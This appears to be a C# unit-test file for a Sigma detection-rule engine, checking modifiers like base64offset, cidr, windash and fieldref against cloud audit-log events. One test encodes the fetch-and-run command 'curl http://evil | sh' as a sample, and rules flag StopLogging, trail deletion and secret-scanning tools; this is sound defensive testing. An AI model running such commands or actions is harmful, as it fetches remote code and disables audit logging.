@@ -1,0 +1,343 @@
+using Firebreak.Detection.Sigma;
+
+namespace Firebreak.Detection.Tests.Sigma;
+
+public class ModifierTests
+{
+    [Theory]
+    [InlineData("StopLogging", true)]
+    [InlineData("stoplogging", true)]
+    [InlineData("StopLoggingX", false)]
+    public void PlainValue_MatchesWholeValueCaseInsensitively(string eventName, bool expected)
+    {
+        var set = SigmaTestRules.Detection("    sel:\n        eventName: StopLogging\n    condition: sel");
+        Assert.Equal(expected, set.MatchesJson($$"""{"eventName":"{{eventName}}"}"""));
+    }
+
+    [Theory]
+    [InlineData("contains", "xxDeleteyy", true)]
+    [InlineData("contains", "Remove", false)]
+    [InlineData("startswith", "DeleteTrail", true)]
+    [InlineData("startswith", "TrailDelete", false)]
+    [InlineData("endswith", "TrailDelete", true)]
+    [InlineData("endswith", "DeleteTrail", false)]
+    public void PositionModifiers_PlaceWildcards(string modifier, string value, bool expected)
+    {
+        var set = SigmaTestRules.Detection($"    sel:\n        eventName|{modifier}: delete\n    condition: sel");
+        Assert.Equal(expected, set.MatchesJson($$"""{"eventName":"{{value}}"}"""));
+    }
+
+    [Theory]
+    [InlineData("a?c*", "abcdef", true)]
+    [InlineData("a?c*", "acdef", false)]
+    [InlineData("*lo*ing", "StopLogging", true)]
+    [InlineData(@"Stop\*", "Stop*", true)]
+    [InlineData(@"Stop\*", "StopLogging", false)]
+    [InlineData(@"a\?", "a?", true)]
+    [InlineData(@"a\?", "ab", false)]
+    [InlineData(@"C:\Windows\*", @"C:\Windows*", true)]
+    [InlineData(@"C:\Windows\*", @"C:\Windows\x", false)]
+    [InlineData(@"C:\Win\dows\x*", @"C:\Win\dows\xyz", true)]
+    [InlineData(@"back\\*", @"back\slash", true)]
+    public void Wildcards_AndEscapes(string pattern, string value, bool expected)
+    {
+        var set = SigmaTestRules.Detection($"    sel:\n        f: '{pattern}'\n    condition: sel");
+        Assert.Equal(expected, set.MatchesJson(System.Text.Json.JsonSerializer.Serialize(new { f = value })));
+    }
+
+    [Fact]
+    public void All_RequiresEveryValue()
+    {
+        var set = SigmaTestRules.Detection("    sel:\n        f|contains|all:\n            - alpha\n            - beta\n    condition: sel");
+        Assert.True(set.MatchesJson("""{"f":"beta then alpha"}"""));
+        Assert.False(set.MatchesJson("""{"f":"alpha only"}"""));
+    }
+
+    [Fact]
+    public void List_IsOr_Map_IsAnd()
+    {
+        var set = SigmaTestRules.Detection("    sel:\n        eventSource: iam.amazonaws.com\n        eventName:\n            - CreateUser\n            - CreateAccessKey\n    condition: sel");
+        Assert.True(set.MatchesJson("""{"eventSource":"iam.amazonaws.com","eventName":"CreateAccessKey"}"""));
+        Assert.False(set.MatchesJson("""{"eventSource":"sts.amazonaws.com","eventName":"CreateAccessKey"}"""));
+        Assert.False(set.MatchesJson("""{"eventSource":"iam.amazonaws.com","eventName":"DeleteUser"}"""));
+    }
+
+    [Fact]
+    public void ListOfMaps_IsOrOfAnds()
+    {
+        var set = SigmaTestRules.Detection("    sel:\n        - a: 1\n          b: 2\n        - c: 3\n    condition: sel");
+        Assert.True(set.MatchesJson("""{"a":1,"b":2}"""));
+        Assert.True(set.MatchesJson("""{"c":"3"}"""));
+        Assert.False(set.MatchesJson("""{"a":1,"b":3}"""));
+    }
+
+    [Theory]
+    [InlineData("""{"f":"Abc"}""", true)]
+    [InlineData("""{"f":"aBc"}""", false)]
+    [InlineData("""{"f":"xAbcx"}""", false)]
+    public void Cased_IsCaseSensitive(string json, bool expected)
+    {
+        var set = SigmaTestRules.Detection("    sel:\n        f|cased: Abc\n    condition: sel");
+        Assert.Equal(expected, set.MatchesJson(json));
+    }
+
+    [Theory]
+    [InlineData("re", "^Get.*Value$", "GetSecretValue", true)]
+    [InlineData("re", "^get.*value$", "GetSecretValue", false)]
+    [InlineData("re|i", "^get.*value$", "GetSecretValue", true)]
+    [InlineData("re", "^b$", "a\nb", false)]
+    [InlineData("re|m", "^b$", "a\nb", true)]
+    [InlineData("re", "a.b", "a\nb", false)]
+    [InlineData("re|s", "a.b", "a\nb", true)]
+    public void Regex_HonoursFlags(string modifiers, string pattern, string value, bool expected)
+    {
+        var set = SigmaTestRules.Detection($"    sel:\n        f|{modifiers}: '{pattern}'\n    condition: sel");
+        Assert.Equal(expected, set.MatchesJson(System.Text.Json.JsonSerializer.Serialize(new { f = value })));
+    }
+
+    [Theory]
+    [InlineData("10.1.2.3", true)]
+    [InlineData("11.1.2.3", false)]
+    [InlineData("192.168.7.200", true)]
+    [InlineData("192.168.8.1", false)]
+    [InlineData("2001:db8::1", true)]
+    [InlineData("2001:db9::1", false)]
+    [InlineData("not-an-ip", false)]
+    public void Cidr_MatchesIPv4AndIPv6Networks(string ip, bool expected)
+    {
+        var set = SigmaTestRules.Detection("    sel:\n        sourceIPAddress|cidr:\n            - 10.0.0.0/8\n            - 192.168.0.0/21\n            - 2001:db8::/32\n    condition: sel");
+        Assert.Equal(expected, set.MatchesJson($$"""{"sourceIPAddress":"{{ip}}"}"""));
+    }
+
+    [Fact]
+    public void Base64_MatchesEncodedValue()
+    {
+        var set = SigmaTestRules.Detection("    sel:\n        f|base64: secret\n    condition: sel");
+        Assert.True(set.MatchesJson($$"""{"f":"{{Convert.ToBase64String("secret"u8.ToArray())}}"}"""));
+        Assert.False(set.MatchesJson("""{"f":"secret"}"""));
+    }
+
+    [Theory]
+    [InlineData("")]
+    [InlineData("x")]
+    [InlineData("xy")]
+    [InlineData("a longer prefix, ")]
+    public void Base64Offset_FindsValueAtAnyAlignment(string prefix)
+    {
+        var set = SigmaTestRules.Detection("    sel:\n        f|base64offset|contains: curl http\n    condition: sel");
+        var encoded = Convert.ToBase64String(System.Text.Encoding.UTF8.GetBytes(prefix + "curl http://evil | sh"));
+        Assert.True(set.MatchesJson($$"""{"f":"{{encoded}}"}"""));
+        Assert.False(set.MatchesJson($$"""{"f":"{{Convert.ToBase64String(System.Text.Encoding.UTF8.GetBytes(prefix + "wget http://ok"))}}"}"""));
+    }
+
+    [Theory]
+    [InlineData("utf16le")]
+    [InlineData("wide")]
+    [InlineData("utf16be")]
+    [InlineData("utf16")]
+    public void Utf16Encodings_CombineWithBase64(string encoding)
+    {
+        var set = SigmaTestRules.Detection($"    sel:\n        f|{encoding}|base64: cmd\n    condition: sel");
+        byte[] bytes = encoding switch
+        {
+            "utf16be" => System.Text.Encoding.BigEndianUnicode.GetBytes("cmd"),
+            "utf16" => [0xFF, 0xFE, .. System.Text.Encoding.Unicode.GetBytes("cmd")],
+            _ => System.Text.Encoding.Unicode.GetBytes("cmd"),
+        };
+        Assert.True(set.MatchesJson($$"""{"f":"{{Convert.ToBase64String(bytes)}}"}"""));
+        Assert.False(set.MatchesJson($$"""{"f":"{{Convert.ToBase64String("cmd"u8.ToArray())}}"}"""));
+    }
+
+    [Theory]
+    [InlineData("run -enc x", true)]
+    [InlineData("run /enc x", true)]
+    [InlineData("run \u2013enc x", true)]
+    [InlineData("run \u2014enc x", true)]
+    [InlineData("run \u2015enc x", true)]
+    [InlineData("run +enc x", false)]
+    public void Windash_AcceptsEveryDashVariant(string value, bool expected)
+    {
+        var set = SigmaTestRules.Detection("    sel:\n        f|windash|contains: ' -enc '\n    condition: sel");
+        Assert.Equal(expected, set.MatchesJson(System.Text.Json.JsonSerializer.Serialize(new { f = value })));
+    }
+
+    [Theory]
+    [InlineData("""{"errorCode":"AccessDenied"}""", "true", true)]
+    [InlineData("""{"errorCode":null}""", "true", true)]
+    [InlineData("""{"other":1}""", "true", false)]
+    [InlineData("""{"other":1}""", "false", true)]
+    [InlineData("""{"errorCode":""}""", "false", false)]
+    public void Exists_ChecksPresenceOnly(string json, string expected, bool result)
+    {
+        var set = SigmaTestRules.Detection($"    sel:\n        errorCode|exists: {expected}\n    condition: sel");
+        Assert.Equal(result, set.MatchesJson(json));
+    }
+
+    [Theory]
+    [InlineData("""{"errorCode":null}""", true)]
+    [InlineData("""{"other":1}""", true)]
+    [InlineData("""{"errorCode":""}""", false)]
+    [InlineData("""{"errorCode":"x"}""", false)]
+    public void Null_MatchesMissingOrNull(string json, bool expected)
+    {
+        var set = SigmaTestRules.Detection("    sel:\n        errorCode: null\n    condition: sel");
+        Assert.Equal(expected, set.MatchesJson(json));
+    }
+
+    [Theory]
+    [InlineData("""{"errorCode":""}""", true)]
+    [InlineData("""{"errorCode":null}""", false)]
+    [InlineData("""{"errorCode":"x"}""", false)]
+    public void EmptyString_MatchesOnlyEmpty(string json, bool expected)
+    {
+        var set = SigmaTestRules.Detection("    sel:\n        errorCode: ''\n    condition: sel");
+        Assert.Equal(expected, set.MatchesJson(json));
+    }
+
+    [Theory]
+    [InlineData("""{"userIdentity":{"type":"IAMUser"}}""", true)]
+    [InlineData("""{"userIdentity":{"type":"Root"}}""", false)]
+    [InlineData("""{"userIdentity":{"type":"root"}}""", false)]
+    [InlineData("""{"userIdentity":{}}""", false)]
+    public void Neq_RequiresFieldDifferentFromAllValues(string json, bool expected)
+    {
+        var set = SigmaTestRules.Detection("    sel:\n        userIdentity.type|neq:\n            - Root\n            - AWSService\n    condition: sel");
+        Assert.Equal(expected, set.MatchesJson(json));
+    }
+
+    [Theory]
+    [InlineData("lt", "5", false)]
+    [InlineData("lt", "4", true)]
+    [InlineData("lte", "5", true)]
+    [InlineData("gt", "5", false)]
+    [InlineData("gt", "6", true)]
+    [InlineData("gte", "5", true)]
+    [InlineData("gte", "4.5", false)]
+    public void NumericModifiers_CompareNumbers(string op, string value, bool expected)
+    {
+        var set = SigmaTestRules.Detection($"    sel:\n        n|{op}: 5\n    condition: sel");
+        Assert.Equal(expected, set.MatchesJson($$"""{"n":{{value}}}"""));
+        Assert.Equal(expected, set.MatchesJson($$"""{"n":"{{value}}"}"""));
+    }
+
+    [Fact]
+    public void NumericModifiers_IgnoreNonNumbers()
+    {
+        var set = SigmaTestRules.Detection("    sel:\n        n|gte: 5\n    condition: sel");
+        Assert.False(set.MatchesJson("""{"n":"many"}"""));
+    }
+
+    [Fact]
+    public void FieldRef_ComparesTwoFields()
+    {
+        var set = SigmaTestRules.Detection("    sel:\n        requestParameters.userName|fieldref: userIdentity.userName\n    condition: sel");
+        Assert.True(set.MatchesJson("""{"requestParameters":{"userName":"alice"},"userIdentity":{"userName":"ALICE"}}"""));
+        Assert.False(set.MatchesJson("""{"requestParameters":{"userName":"bob"},"userIdentity":{"userName":"alice"}}"""));
+    }
+
+    [Fact]
+    public void FieldRef_WithNeq_MatchesDifferentValues()
+    {
+        var set = SigmaTestRules.Detection("    sel:\n        requestParameters.userName|fieldref|neq: userIdentity.userName\n    condition: sel");
+        Assert.False(set.MatchesJson("""{"requestParameters":{"userName":"alice"},"userIdentity":{"userName":"alice"}}"""));
+        Assert.True(set.MatchesJson("""{"requestParameters":{"userName":"bob"},"userIdentity":{"userName":"alice"}}"""));
+    }
+
+    [Fact]
+    public void Expand_UsesConfiguredPlaceholderValues()
+    {
+        var options = new SigmaCompileOptions
+        {
+            Placeholders = new Dictionary<string, IReadOnlyList<string>> { ["admin_accounts"] = ["break-glass", "root-ops"] },
+        };
+        var set = SigmaTestRules.Detection("    sel:\n        userIdentity.userName|expand: '%admin_accounts%'\n    condition: sel", options);
+        Assert.True(set.MatchesJson("""{"userIdentity":{"userName":"root-ops"}}"""));
+        Assert.False(set.MatchesJson("""{"userIdentity":{"userName":"alice"}}"""));
+    }
+
+    [Fact]
+    public void Expand_WithoutConfiguredValues_NeverMatchesAndWarns()
+    {
+        var parsed = SigmaParser.Parse("title: t\nlogsource: {product: aws}\ndetection:\n  sel:\n    u|expand: '%nobody%'\n  condition: sel\n", "p.yml");
+        var set = CompiledRuleSet.Compile(parsed.Documents);
+        Assert.Contains(set.Diagnostics, d => d.Severity == DiagnosticSeverity.Warning && d.Message.Contains("%nobody%"));
+        Assert.False(set.MatchesJson("""{"u":"%nobody%"}"""));
+    }
+
+    [Theory]
+    [InlineData("hour|gte: 22", "2026-03-01T23:10:00Z", true)]
+    [InlineData("hour|gte: 22", "2026-03-01T08:10:00Z", false)]
+    [InlineData("month: 3", "2026-03-01T08:10:00Z", true)]
+    [InlineData("year: 2025", "2026-03-01T08:10:00Z", false)]
+    public void TimeModifiers_ExtractComponents(string item, string time, bool expected)
+    {
+        var set = SigmaTestRules.Detection($"    sel:\n        eventTime|{item}\n    condition: sel");
+        Assert.Equal(expected, set.MatchesJson($$"""{"eventTime":"{{time}}"}"""));
+    }
+
+    [Fact]
+    public void Keywords_SearchEveryStringInTheRecord()
+    {
+        var set = SigmaTestRules.Detection("    keywords:\n        - 'S3 Browser'\n        - trufflehog\n    condition: keywords");
+        Assert.True(set.MatchesJson("""{"userAgent":"S3 Browser 11.5","eventName":"ListBuckets"}"""));
+        Assert.True(set.MatchesJson("""{"requestParameters":{"tags":["x","TruffleHog v3"]}}"""));
+        Assert.False(set.MatchesJson("""{"userAgent":"aws-cli/2"}"""));
+    }
+
+    [Fact]
+    public void Arrays_OnThePath_FanOut()
+    {
+        var set = SigmaTestRules.Detection("    sel:\n        targetResources.modifiedProperties.newValue|contains: Owner\n    condition: sel",
+            logsource: "product: azure\n    service: auditlogs");
+        var e = TestEvents.Create("""{"targetResources":[{"modifiedProperties":[{"newValue":"Reader"}]},{"modifiedProperties":[{"newValue":"x"},{"newValue":"\"Owner\""}]}]}""", "azure", "auditlogs");
+        Assert.True(set.Matches(e));
+        var other = TestEvents.Create("""{"targetResources":[{"modifiedProperties":[{"newValue":"Reader"}]}]}""", "azure", "auditlogs");
+        Assert.False(set.Matches(other));
+    }
+
+    [Fact]
+    public void EscapedJsonStrings_AreDecodedBeforeMatching()
+    {
+        var set = SigmaTestRules.Detection("    sel:\n        f: 'a\"b'\n    condition: sel");
+        Assert.True(set.MatchesJson("""{"f":"a\"b"}"""));
+        Assert.True(set.MatchesJson("""{"f":"a\u0022b"}"""));
+    }
+
+    [Fact]
+    public void NumbersAndBooleans_MatchTheirTextForm()
+    {
+        var set = SigmaTestRules.Detection("    sel:\n        additionalEventData.MFAUsed: 'No'\n        responseElements.enabled: true\n        code: 404\n    condition: sel");
+        Assert.True(set.MatchesJson("""{"additionalEventData":{"MFAUsed":"No"},"responseElements":{"enabled":true},"code":404}"""));
+        Assert.False(set.MatchesJson("""{"additionalEventData":{"MFAUsed":"No"},"responseElements":{"enabled":false},"code":404}"""));
+    }
+}
+
+public class KeywordAndPlaceholderEdgeTests
+{
+    [Fact]
+    public void KeywordsWithAll_RequireEveryKeyword()
+    {
+        var set = SigmaTestRules.Detection("    keywords:\n        '|all':\n            - S3 Browser\n            - CreateUser\n    condition: keywords");
+        Assert.True(set.MatchesJson("""{"userAgent":"S3 Browser 10","eventName":"CreateUser"}"""));
+        Assert.False(set.MatchesJson("""{"userAgent":"S3 Browser 10","eventName":"ListBuckets"}"""));
+    }
+
+    [Fact]
+    public void Expand_EscapedPercent_IsLiteral()
+    {
+        var options = new SigmaCompileOptions
+        {
+            Placeholders = new Dictionary<string, IReadOnlyList<string>> { ["name"] = ["svc"] },
+        };
+        var set = SigmaTestRules.Detection("    sel:\n        f|expand: '\\%plain%name%'\n    condition: sel", options);
+        Assert.True(set.MatchesJson("""{"f":"%plainsvc"}"""));
+        Assert.False(set.MatchesJson("""{"f":"\\%plainsvc"}"""));
+    }
+
+    [Fact]
+    public void PercentWithoutExpand_IsLiteral()
+    {
+        var set = SigmaTestRules.Detection("    sel:\n        f: '%name%'\n    condition: sel");
+        Assert.True(set.MatchesJson("""{"f":"%name%"}"""));
+    }
+}
